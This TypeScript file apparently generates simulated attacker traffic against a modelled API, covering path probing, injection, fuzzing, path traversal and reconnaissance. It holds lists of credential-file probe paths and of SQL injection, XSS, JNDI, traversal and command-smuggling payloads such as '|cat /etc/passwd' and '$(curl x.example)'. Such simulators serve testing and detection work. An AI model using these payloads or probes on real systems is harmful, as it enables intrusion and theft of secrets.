/** Searches for holes: known paths, strange values, documents of the API. */

import {
  ask,
  type Context,
  type Course,
  call,
  effort,
  enter,
  isStopped,
  itemStep,
  listStep,
  pickResource,
  pretend,
  type Step,
  step,
  tryLogin,
  write,
} from './actor.ts';
import { type Api, idOf } from './api.ts';

export const PROBES =
  '/.env /.env.bak /.env.local /.git/config /.git/HEAD /.svn/entries /.aws/credentials /.htaccess /.htpasswd /.DS_Store /.ssh/id_rsa /wp-login.php /wp-admin/ /wp-admin/setup-config.php /wp-content/plugins/ /wp-includes/wlwmanifest.xml /xmlrpc.php /phpmyadmin/ /pma/ /mysql/ /admin.php /administrator/ /cgi-bin/ /cgi-bin/luci /server-status /phpinfo.php /info.php /test.php /config.php /config.json /config.yml /config.bak /backup.zip /backup/ /dump.sql /shell.php /manager/html /actuator/env /actuator/heapdump /solr/admin/info /jenkins/login /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /boaform/admin/formLogin /HNAP1/ /web.config /setup.php /install.php /console /debug /api/swagger.json /swagger-ui.html /v2/api-docs /.well-known/security.txt /robots.txt /sitemap.xml /crossdomain.xml /telescope/requests /_ignition/execute-solution /owa/auth/logon.aspx /remote/login /login.action /struts/ /api/jsonws /druid/index.html /nacos/ /geoserver/web/ /ecp/ /autodiscover/ /HNAP1 /GponForm/diag_Form /portal/redlion /api/v1/pods /metrics /graphql /admin/config'.split(
    ' ',
  );
const COMMON =
  'admin about account api app archive assets auth backup beta bin blog cache cgi config contact console css dashboard data db debug default demo dev docs download downloads error export files forum help home images img include index info install js lib log login logs mail main media members misc new news old pages panel php private public register reports root scripts search secret secure server services setup shop site sql src staff static stats status store support sys system temp test tmp tools upload uploads user users util v1 v2 web webmail www xml internal orders customers payments invoices health metrics graphql token keys'.split(
    ' ',
  );
const ENDINGS = ['', '', '', '/', '.php', '.html', '.bak', '.old', '.zip', '.txt', '.json', '.asp', '.jsp', '~'];

/** Lists of paths that are tried one after the other: known holes, common words, or words under the API's base. */
export function* vulnerabilityScan(ctx: Context): Course {
  const { random, api } = ctx;
  const list = random.weighted({ probes: 4, words: 4, both: 3, api: 3 });
  const method = random.pick(['GET', 'GET', 'GET', 'HEAD', 'POST', 'OPTIONS']);
  const endings = random.shuffle(ENDINGS).slice(0, random.int(1, 4));
  const words = random.chance(0.5) ? COMMON : random.shuffle(COMMON);
  const probes = random.shuffle(PROBES);
  const root = list === 'api' || random.chance(0.15) ? `${random.pick([api.base, pickResource(ctx).path])}/` : '/';
  if (random.chance(0.4)) yield* ask(ctx, step(ctx, 'GET', random.pick(['/', api.base || '/'])));
  const cover = random.pick([0, 0, 0.05, 0.3]);
  const handles = random.chance(0.2);
  if (handles && !api.isSite) yield* enter(ctx);
  for (let i = 0, count = effort(ctx, 250); i < count && !isStopped(ctx); i++) {
    const isProbe = list === 'probes' || (list === 'both' && random.chance(0.4));
    const known = probes[i % probes.length]!;
    const guessed = `${root}${words[Math.floor(i / endings.length) % words.length]}${i >= words.length * endings.length ? i : ''}${endings[i % endings.length]}`;
    yield* ask(ctx, step(ctx, method, isProbe ? known : guessed, isProbe && known.startsWith('/.') ? { wish: 'attack' } : {}));
    yield* pretend(ctx, cover);
  }
}

const INJECTIONS = [
  "' OR '1'='1",
  "1' AND 1=1-- -",
  '1 UNION SELECT NULL,NULL,NULL--',
  "' AND SLEEP(5)-- ",
  "1;WAITFOR DELAY '0:0:5'--",
  '1) AND 2=2 AND (3=3',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  `$${'{'}jndi:ldap://a.example/x}`,
  '{{7*7}}',
  ';id',
  '|cat /etc/passwd',
  'extractvalue(1,concat(0x7e,version()))',
  "' ORDER BY 5-- ",
  '(SELECT 1 FROM information_schema.tables)',
  '%27%20or%201=1',
  '-1 OR 1=1',
  '1 AND 5821=5821',
  "admin'--",
  '`sleep 5`',
  '$(curl x.example)',
  '1/**/OR/**/1=1',
  '\u0000',
  "'",
  '"',
  '))',
  '-9999',
];
const PARAMETERS = [
  'id',
  'q',
  'page',
  'sort',
  'filter',
  'user',
  'name',
  'file',
  'limit',
  'cat',
  'lang',
  'search',
  'order',
  'from',
  'ref',
  'callback',
];

/** Values that a database or a page might run, in one parameter after the other, in bodies or in paths. */
export function* injectionScan(ctx: Context): Course {
  const { random, api } = ctx;
  if (!api.isSite && random.chance(0.5)) yield* enter(ctx);
  const resource = pickResource(ctx);
  const where = random.weighted({ query: 5, body: 3, path: 1, mixed: 2 });
  const targets = [
    api.at('search'),
    resource.path,
    `${resource.path}/${idOf(resource, random.int(0, resource.count - 1))}`,
    random.pick(api.pages),
    api.at('query'),
  ].slice(0, random.int(1, 5));
  const crawls = random.chance(0.3);
  if (crawls) for (const path of targets) yield* ask(ctx, step(ctx, 'GET', path));
  for (let left = effort(ctx, 200); left > 0 && !isStopped(ctx); left--) {
    const text = encodeURIComponent(`${random.int(1, 99)}${random.pick(INJECTIONS)}`);
    const wish = random.chance(0.5) ? 'attack' : 'odd';
    const path = random.pick(targets);
    const at = where === 'mixed' ? random.pick(['query', 'body', 'path'] as const) : where;
    if (at === 'query') yield* ask(ctx, step(ctx, 'GET', path, { query: `${random.pick(PARAMETERS)}=${text}`, wish }));
    else if (at === 'body')
      yield* ask(ctx, write(ctx, 'POST', random.chance(0.3) ? api.at('login') : path, { wish, bodyBytes: random.int(30, 300) }));
    else yield* ask(ctx, step(ctx, 'GET', `${resource.path}/${text}`, { wish }));
  }
}

/** Parameter names and strange values on routes that exist: much is refused as invalid, some is an error. */
export function* parameterFuzzing(ctx: Context): Course {
  const { random, api } = ctx;
  if (!api.isSite && random.chance(0.7)) yield* enter(ctx);
  const paths = [...api.resources.map((r) => r.path), api.at('search'), api.at('me'), api.at('cart'), random.pick(api.pages)];
  const targets = random.shuffle(paths).slice(0, random.int(1, paths.length));
  const methods = random.chance(0.5) ? ['GET'] : ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'TRACE'];
  for (let left = effort(ctx, 250); left > 0 && !isStopped(ctx); left--) {
    const method = random.pick(methods);
    const path = random.pick(targets);
    const value = random.pick([
      random.hex(6),
      '-1',
      '99999999999',
      'null',
      'true',
      '%00',
      '[]',
      '',
      'a'.repeat(random.int(10, 400)),
      random.pick(COMMON),
    ]);
    const query = random.chance(0.7) ? `${random.pick([...PARAMETERS, ...COMMON])}=${value}` : null;
    const body = method === 'GET' ? {} : { bodyBytes: random.logInt(2, 900), contentType: 'application/json' };
    yield* ask(
      ctx,
      step(ctx, method, random.chance(0.15) ? `${path}/${value || '0'}` : path, {
        query,
        ...body,
        ...(random.chance(0.8) ? { wish: 'odd' as const } : {}),
      }),
    );
  }
}

export function* pathTraversal(ctx: Context): Course {
  const { random, api } = ctx;
  const roots = ['/static', '/images', '/files', `${api.base}/files`, '/download', '/cgi-bin', '/assets', '/icons'];
  const files = [
    'etc/passwd',
    'etc/hosts',
    'windows/win.ini',
    'proc/self/environ',
    'etc/shadow',
    'var/log/auth.log',
    'app/config.yml',
  ];
  for (let left = effort(ctx, 80); left > 0 && !isStopped(ctx); left--) {
    const up = random.pick(['../', '..%2f', '%2e%2e/', '..%5c', '....//', '.%2e/']).repeat(random.int(1, 9));
    const inQuery = random.chance(0.4);
    const file = `${up}${random.pick(files)}`;
    yield* ask(
      ctx,
      step(ctx, 'GET', inQuery ? random.pick([...roots, api.at('search')]) : `${random.pick(roots)}/${file}`, {
        wish: 'attack',
        query: inQuery ? `${random.pick(PARAMETERS)}=${file}` : null,
      }),
    );
  }
}

/** One to three calls that nobody can tell from anyone's; some of them are a known hole's address. */
export function* reconnaissance(ctx: Context): Course {
  const { random, api } = ctx;
  const resource = pickResource(ctx);
  for (let left = random.int(1, 3); left > 0; left--) {
    yield* call(
      ctx,
      random.pick([
        () => step(ctx, 'GET', '/'),
        () => step(ctx, 'GET', random.pick(api.pages)),
        () => step(ctx, 'GET', random.pick(PROBES)),
        () => step(ctx, 'HEAD', '/'),
        () => listStep(ctx, resource, 0),
        () => itemStep(ctx, resource, random.int(0, resource.count - 1)),
        () => tryLogin(ctx, random.int(0, 1e6), random.chance(0.1)),
        () => step(ctx, 'GET', random.pick(['/robots.txt', '/favicon.ico', '/docs', '/index.html', '/swagger.json'])),
      ])(),
    );
  }
}

const DOCUMENTS =
  '/openapi.json /swagger.json /v3/api-docs /swagger/v1/swagger.json /docs /redoc /graphql /.well-known/openid-configuration /.well-known/security.txt /robots.txt /sitemap.xml /version /health /api /v1 /v2 /v3 /internal /beta /rest'.split(
    ' ',
  );

/** Feeds that have a query of their own are left out. */
function routesOf({ endpoints }: Api): string[] {
  return [...endpoints.keys()].filter((path) => !path.includes('?'));
}

/** Learns the lay of the land: documents, methods, versions, what an error says; little is asked twice. */
export function* footprinting(ctx: Context): Course {
  const { random, api } = ctx;
  const documents = random.shuffle(DOCUMENTS);
  const routes = random.shuffle([...api.resources.map((r) => r.path), ...routesOf(api)]);
  if (random.chance(0.3)) yield* enter(ctx);
  for (let i = 0, count = effort(ctx, 80); i < count && !isStopped(ctx); i++) {
    const route = routes[i % routes.length]!;
    const what = random.weighted({ document: 4, route: 3, options: 2, method: 2, version: 2 });
    if (what === 'document') yield* ask(ctx, step(ctx, 'GET', documents[i % documents.length]!));
    else if (what === 'route') yield* ask(ctx, step(ctx, 'GET', route));
    else if (what === 'options') yield* ask(ctx, step(ctx, 'OPTIONS', route));
    else if (what === 'method') yield* ask(ctx, write(ctx, random.pick(['POST', 'PUT', 'DELETE']), route, { wish: 'odd' }));
    else yield* ask(ctx, step(ctx, 'GET', route.replace(/v\d/, `v${random.int(0, 9)}`)));
  }
}

/** From the API's own description: every route with bodies and values that fit and that don't, and with other methods. */
export function* schemaFuzzing(ctx: Context): Course {
  const { random, api } = ctx;
  yield* ask(ctx, step(ctx, 'GET', random.pick(['/openapi.json', '/swagger.json', '/docs']), { credential: null }));
  if (random.chance(0.8)) yield* enter(ctx);
  const odd = random.pick([0.3, 0.6, 0.9]);
  const routes = [...api.resources.flatMap(({ path }) => [path, `${path}/{}`]), ...routesOf(api)];
  const examples = random.logInt(3, 30);
  let left = effort(ctx, 400);
  for (const route of random.chance(0.7) ? routes : random.shuffle(routes))
    for (let i = 0; i < examples && !isStopped(ctx); i++) {
      if (left-- <= 0) return;
      yield* ask(ctx, exampleOf(ctx, route, odd));
    }
}

function exampleOf(ctx: Context, route: string, odd: number): Step {
  const { random } = ctx;
  const isItem = route.endsWith('{}');
  const method = random.pick(isItem ? ['GET', 'GET', 'PUT', 'PATCH', 'DELETE'] : ['GET', 'POST', 'POST']);
  const path = route.replace(
    '{}',
    random.pick(['0', '-1', String(random.int(0, 2 ** 31)), random.hex(8), '%00', 'null', random.uuid()]),
  );
  const wish = random.chance(odd) ? { wish: 'odd' as const } : {};
  if (method !== 'GET' && method !== 'DELETE') return write(ctx, method, path, { bodyBytes: random.logInt(2, 3000), ...wish });
  return step(ctx, method, path, {
    query: random.chance(0.5) ? `${random.pick(PARAMETERS)}=${random.hex(random.int(1, 30))}` : null,
    ...wish,
  });
}
